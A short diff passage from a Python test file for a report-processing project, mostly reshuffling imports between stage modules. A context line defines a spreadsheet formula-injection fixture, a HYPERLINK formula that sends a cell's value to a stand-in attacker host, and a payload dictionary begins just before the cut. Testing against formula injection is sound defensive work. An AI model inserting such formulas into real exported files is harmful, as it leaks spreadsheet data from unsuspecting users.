@@ -21,8 +21,10 @@ from test_reader import edited, input_cell, render, sample_report
 from tianbao.document.publish import publish
 from tianbao.form import Form
 from tianbao.report import Report
-from tianbao.stages.intake import FINDINGS_CSV, FINDINGS_XLSX, annotate, import_batch
-from tianbao.stages.merge import VALUES_CSV, MergeOptions, merge, write_outputs
+from tianbao.stages.annotate import annotate
+from tianbao.stages.batch import FINDINGS_CSV, FINDINGS_XLSX, import_batch
+from tianbao.stages.merge import VALUES_CSV, MergeOptions, merge
+from tianbao.stages.summary import write_outputs
 
 NAME = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
 PAYLOADS = {
